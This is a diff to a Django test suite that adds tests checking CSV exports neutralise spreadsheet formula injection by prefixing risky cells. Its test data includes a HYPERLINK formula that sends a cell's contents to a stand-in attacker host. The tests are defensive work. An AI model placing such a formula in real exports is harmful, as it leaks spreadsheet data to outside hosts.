@@ -15,7 +15,7 @@ from django.urls import reverse
 from negotiations import exports
 from negotiations.dates import Precision
 from negotiations.models import Position
-from tests.conftest import make_citation, make_position, make_source, with_reason
+from tests.conftest import make_citation, make_party, make_position, make_source, with_reason
 
 
 def body(response):
@@ -348,3 +348,47 @@ def test_proposals_provisions_and_compare_download(client, reader, db):
     assert client.get(f"/n/{slug}/compare/export.csv?a=nope&b=x").status_code == 400
     page = client.get(f"/n/{slug}/proposals/").content.decode()
     assert f"/n/{slug}/proposals/export.csv" in page
+
+
+# --- formulas in CSV ---------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+    "-5 km from the border",  # harmless, and prefixed all the same (OWASP)
+    "+1 day",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "\rcarriage return",
+]
+
+
+def test_csv_neutralises_cells_a_spreadsheet_would_run_and_json_keeps_them(client, reader, world):
+    """Fails on the old main: cells starting with = + - @, a tab or a carriage return were
+    written raw, and a spreadsheet opening the CSV ran =HYPERLINK(…) as a formula."""
+    for text in FORMULAS:
+        make_position(world["maps"], world["beta"], summary=text, quote=text)
+    client.force_login(reader)
+    rows = csv_rows(client.get(url("positions_export", "talks"), {"party": "beta"}))
+    assert sorted(r["summary"] for r in rows) == sorted("'" + t for t in FORMULAS)
+    assert sorted(r["quote"] for r in rows) == sorted("'" + t for t in FORMULAS)
+    assert {r["citations"] for r in rows} == {"1"}  # numbers are not text: left alone
+    matrix = csv_rows(client.get(url("matrix_export", "talks")))
+    assert any(r["summary"].startswith("'") for r in matrix)
+    data = json.loads(body(client.get(url("positions_export", "talks", fmt="json"))))
+    assert sorted(d["summary"] for d in data if d["party_slug"] == "beta") == sorted(FORMULAS)
+
+
+def test_the_csv_cell_function_leaves_other_values_alone():
+    assert exports.csv_cell(-5) == -5 and exports.csv_cell(None) == ""
+    assert exports.csv_cell("5 km") == "5 km" and exports.csv_cell("a=b") == "a=b"
+    assert exports.csv_cell(datetime.date(2024, 1, 2)) == "2024-01-02"
+    assert exports.csv_cell("=1+1") == "'=1+1"
+
+
+def test_analytics_csv_neutralises_formulas_too(client, reader, world):
+    dash = make_party(world["negotiation"], slug="-dash", name="Dash")  # a valid slug
+    make_position(world["maps"], dash)
+    client.force_login(reader)
+    export = reverse("negotiations:analytics_export", kwargs={"slug": "talks", "fmt": "csv"})
+    rows = list(csv.DictReader(io.StringIO(body(client.get(export, {"table": "since"})))))
+    assert "'-dash" in {r["party"] for r in rows}
